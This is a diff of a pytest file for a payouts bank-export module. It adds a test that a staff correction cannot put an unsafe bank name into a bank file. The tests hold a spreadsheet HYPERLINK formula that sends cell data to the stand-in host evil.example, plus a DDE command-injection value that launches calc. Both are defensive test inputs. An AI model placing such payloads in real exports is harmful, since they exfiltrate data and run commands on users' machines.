@@ -16,11 +16,11 @@ from pathlib import Path
 import pytest
 from sqlalchemy import select
 
-from payouts import bankfiles, offers, runs
+from payouts import bankfiles, offers, payees, runs
 from payouts.errors import BankExportError
 from payouts.models import Offer, OfferState, Payee
 from rules.errors import StateError
-from tests.payouts.conftest import payee, policy, write_run
+from tests.payouts.conftest import payee, policy, uscc, write_run
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&D2,"详情")'
 NAMES = {
@@ -121,3 +121,20 @@ def test_a_bank_file_keeps_a_name_of_exactly_the_limit() -> None:
     name = "长" * bankfiles.NAME_MAX
     xml = bankfiles.render_pain001(_batch(name)).decode()
     assert f"<Nm>{name}</Nm>" in xml
+
+
+def test_a_staff_correction_cannot_bring_an_unsafe_name_into_a_bank_file(tx, t0, tmp_path: Path) -> None:
+    with tx() as s:
+        runs.import_run(s, _run(tmp_path / "run"), "rev", t0)
+    for bank in ("=cmd|' /C calc'!A0", "中国建设银行\t某市分行", "长" * 141):
+        with tx() as s, pytest.raises(StateError, match="不能原样写入银行文件"):
+            payees.correct_account(
+                s,
+                uscc(1),
+                bank_name=bank,
+                account_no="6222000011112222",
+                account_name=NAMES[1],
+                by="rev",
+                reason="企业来函更正账户",
+                now=t0,
+            )
